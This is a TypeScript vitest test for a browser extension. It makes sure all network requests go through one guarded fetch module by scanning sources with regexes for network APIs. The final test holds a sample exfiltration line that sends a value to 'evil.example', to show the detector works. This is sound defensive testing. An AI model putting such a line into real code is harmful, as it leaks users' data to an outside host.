import { readdirSync, readFileSync, statSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';

// Every request the extension makes goes through utils/net/guarded-fetch.ts, which checks the
// URL against what the office configured. This test keeps it the only door: no other file of
// ours may call fetch or open XMLHttpRequest, WebSocket, EventSource or sendBeacon.
const DOOR = 'utils/net/guarded-fetch.ts';
const ROOTS = ['entrypoints', 'utils', 'components'];
const NETWORK = [/\bfetch\s*\(/, /\bXMLHttpRequest\b/, /\bWebSocket\b/, /\bsendBeacon\b/, /\bEventSource\b/, /\bimportScripts\s*\(/];

function sources(dir: string): string[] {
  return readdirSync(dir).flatMap((name) => {
    const path = join(dir, name);
    if (statSync(path).isDirectory()) return sources(path);
    return /\.(ts|tsx|js|mjs)$/.test(name) && !/\.test(-helper)?\.|\.test\./.test(name) ? [path] : [];
  });
}

describe('one door to the network', () => {
  const files = ROOTS.flatMap(sources);

  it('scans our sources (and the door is among them)', () => {
    expect(files.length).toBeGreaterThan(100);
    expect(files).toContain(DOOR);
    expect(readFileSync(DOOR, 'utf8')).toMatch(/\bfetch\s*\(/);
  });

  it('finds fetch, XMLHttpRequest, WebSocket, EventSource and sendBeacon nowhere else', () => {
    const offenders = files
      .filter((file) => file !== DOOR)
      .flatMap((file) => {
        const text = readFileSync(file, 'utf8');
        return NETWORK.filter((pattern) => pattern.test(text)).map((pattern) => `${file}: ${pattern.source}`);
      });
    expect(offenders).toEqual([]);
  });

  it('would notice one', () => {
    expect(NETWORK.some((p) => p.test("await fetch('https://evil.example/?cf=' + cf)"))).toBe(true);
    expect(NETWORK.some((p) => p.test('navigator.sendBeacon(url, data)'))).toBe(true);
    expect(NETWORK.some((p) => p.test('new WebSocket(url)'))).toBe(true);
  });
});
